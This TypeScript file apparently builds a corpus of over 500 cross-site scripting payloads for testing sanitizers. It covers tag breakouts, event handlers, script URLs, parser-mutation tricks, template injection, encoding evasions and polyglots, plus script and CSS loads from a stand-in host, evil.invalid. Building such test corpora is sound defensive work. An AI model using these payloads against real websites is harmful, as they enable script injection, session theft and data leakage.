/*
 * Texts that run a script where a page forgets to write them as text: families that are known, multiplied by where one
 * breaks out of and by how one gets past a filter. Each calls `__pwn`, or asks a host that nobody has.
 */
const call = '__pwn(1)'
const away = 'https://evil.invalid'

/** Out of what somebody may have written the text into. */
const breakouts = ['', '">', '\'>', '`>', '</textarea>', '</title>', '</script>', '--><!-- x', '</style>', ']]>', '</option></select>', '</pre></code>', '</bdi></span>', '<!--><']
const gaps = [' ', '/', '\n', '\t', '\f', '/**/', ' x=">" ']

/** Elements that run something by themselves. */
const selfRunning = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['marquee', 'onstart'], ['iframe', 'onload'], ['object data=x', 'onerror'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onbegin'], ['video><source', 'onerror'], ['x tabindex=1 autofocus', 'onfocus'], ['button autofocus', 'onfocus'],
  ['div popover id=p', 'onbeforetoggle'], ['x style=animation-name:x', 'onanimationstart'], ['x style=transition:1s', 'ontransitionend'], ['embed src=x', 'onload'], ['frameset', 'onload'], ['img srcset=x', 'onerror'],
] as const

/** How the handler's words are written down. */
const writings: readonly ((code: string) => string)[] = [
  (code) => `=${code}`, (code) => `="${code}"`, (code) => `='${code}'`, (code) => ` = "${code}"`, (code) => `="&#x5f;&#x5f;pwn(1)${code.slice(0, 0)}"`, (code) => `=eval('${code.replaceAll('_', '\\x5f')}')`,
]

const schemes = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `\u0001javascript:${call}`, ` javascript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`,
  `javascript://%0a${call}`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5fX3B3bigxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${call}>`, `vbscript:${call}`, `blob:${away}`, `//evil.invalid/%2f..`, `view-source:javascript:${call}`, `\u202Ejavascript:${call}`,
]
const carriers: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`, (url) => `[x](${url})`, (url) => `![x](${url})`, (url) => `<${url}>`, (url) => `[x]: ${url}\n\n[x]`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`, (url) => `<math href="${url}">x</math>`, (url) => `<meta http-equiv=refresh content="0;url=${url}">`, (url) => `<base href="${url}">`, (url) => `<object data="${url}"></object>`, (url) => `<embed src="${url}">`, (url) => `<a href="x" ping="${url}">x</a>`,
]

/** Trees that change between being read and being written. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, `<template><img src=x onerror=${call}></template>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<svg><style>&lt;img src=x onerror=${call}&gt;</style></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`, `<select><option><style></option></select><img src=x onerror=${call}></style>`, `<table><td background="javascript:${call}">`, `<p><svg><desc><img src=x onerror=${call}>`,
  `<x-y><template shadowrootmode=open><img src=x onerror=${call}></template></x-y>`, `<a id=x name=y><a id=x href="cid:${call}">`, `<img name=getElementById src=x onerror=${call}>`, `<plaintext><img src=x onerror=${call}>`, `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
]

const scripts = [
  `<script>${call}</script>`, `<SCRIPT SRC=${away}/x.js></SCRIPT>`, `<script/x>${call}</script >`, `<scr<script>ipt>${call}</script>`, `<script>${call}<!--`, `<script type=module>${call}</script>`, `<script type=module>import '${away}/x.js'</script>`, `<svg><script>${call}</script></svg>`,
  `<svg><script href="${away}/x.js"/></svg>`, `<script type=importmap>{"imports":{"x":"${away}/x.js"}}</script>`, `<script>fetch('${away}')</script>`, `<link rel=modulepreload href=${away}/x.js>`, `<link rel=prefetch href=${away}>`, `<script nonce=x>${call}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["${away}"]}]}</script>`,
]
const styles = [
  `<style>@import '${away}/x.css';</style>`, `<style>*{background:url(${away})}</style>`, `<div style="background:url(${away})">x</div>`, `<div style="width:expression(${call})">`, `<div style="-moz-binding:url(${away})">`, `<link rel=stylesheet href=${away}/x.css>`, `<style>input[value^=a]{background:url(${away})}</style>`, `<img src=${away}/pixel.gif>`, `<img srcset="${away}/pixel.gif 1x">`, `<input type=image src=${away}/x>`, `<video poster=${away}/x>`,
]
const templates = [
  `{{constructor.constructor('${call}')()}}`, `{{${call}}}`, `\${${call}}`, `<%= ${call} %>`, `#{${call}}`, `{%raw%}{{${call}}}`, `[[${call}]]`, `{{[].pop.constructor('${call}')()}}`, `\${{${call}}}`, `<div v-html="'<img src=x onerror=${call}>'">`, `<div ng-app>{{$eval.constructor('${call}')()}}</div>`, `<div x-data x-init="${call}">`, `<div hx-on:load="${call}" hx-get="${away}">`, `<div data-bind="html: ${call}">`, '`${__pwn(1)}`', `<local-time onclick=${call}>`, `<copy-button><img src=x onerror=${call}></copy-button>`,
]
const insideScripts = [`';${call};//`, `";${call};//`, `\\';${call};//`, `\\";${call};//`, `</script><script>${call}</script>`, `\u2028${call}\u2029`, `'-${call}-'`, `"-${call}-"`, `*/${call}/*`, `<!--\n${call}\n-->`, `\r\n${call}`, `1;${call}`, `__proto__[innerHTML]=<img src=x onerror=${call}>`]
const unicode = [
  `＜img src=x onerror=${call}＞`, `\u02bcimg\u02bc onerror=${call}`, `%3Cimg src=x onerror=${call}%3E`, `%253Cimg src=x onerror=${call}%253E`, `&lt;img src=x onerror=${call}&gt;`, `&amp;lt;img src=x onerror=${call}&amp;gt;`, `\\u003cimg src=x onerror=${call}\\u003e`, `\\x3cimg src=x onerror=${call}\\x3e`, `+ADw-img src=x onerror=${call}+AD4-`,
  `<\u200bimg src=x onerror=${call}>`, `\u202e<img src=x onerror=${call}>\u202c`, `<ımg src=x onerror=${call}>`, `<ſcript>${call}</ſcript>`, `<ſvg onload=${call}>`, `\ufeff<img src=x onerror=${call}>`, `<img\u00a0src=x\u00a0onerror=${call}>`, `<img src=x one\u0301rror=${call}>`, `&#60img src=x onerror=${call}&#62`, `&#x3c;img src=x onerror=${call}&#x3e;`, `&LT;img src=x onerror=${call}&GT;`,
]
const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`, `"><svg/onload=${call}><!--'"\`--></script><img src=x onerror=${call}>`, `'">><marquee><img src=x onerror=${call}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${call}>`,
  `-->"></title></textarea></style></script><svg onload=${call}>{{${call}}}\${${call}}`, `"onclick=${call}//<button autofocus onfocus=${call}>*/alert()/*`, `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${call}//>`,
]

/** Every n-th of all combinations, so that each part of each comes up. */
const handlers = (): readonly string[] => breakouts.flatMap((out, a) => selfRunning.flatMap(([element, event], b) => {
  const [gap, write] = [gaps[(a + b) % gaps.length] ?? ' ', writings[(a * 3 + b) % writings.length] ?? ((code: string) => `=${code}`)]
  return [`${out}<${element.replaceAll(' ', gap === ' x=">" ' ? ' ' : gap)}${gap}${event}${write(call)}>`]
}))

/** More than 500, all different. */
export const xssPayloads: readonly string[] = [...new Set([
  ...scripts, ...styles, ...templates, ...insideScripts, ...unicode, ...polyglots, ...mutations, ...schemes, ...schemes.flatMap((url) => carriers.map((carry) => carry(url))), ...handlers(),
])]
